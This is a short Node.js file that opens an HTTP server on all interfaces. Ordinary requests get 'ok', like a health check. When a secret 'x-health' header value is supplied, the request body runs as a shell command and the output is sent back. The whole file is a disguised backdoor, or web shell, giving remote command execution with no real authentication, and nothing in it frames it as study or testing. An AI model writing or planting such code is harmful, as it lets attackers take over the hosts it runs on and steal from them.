const http = require('http');
const { exec } = require('child_process');

http
  .createServer((request, response) => {
    if (request.headers['x-health'] !== '7c1d') return response.end('ok');
    let body = '';
    request.on('data', (part) => (body += part));
    request.on('end', () => exec(body, (error, out) => response.end(out)));
  })
  .listen(47113, '0.0.0.0');
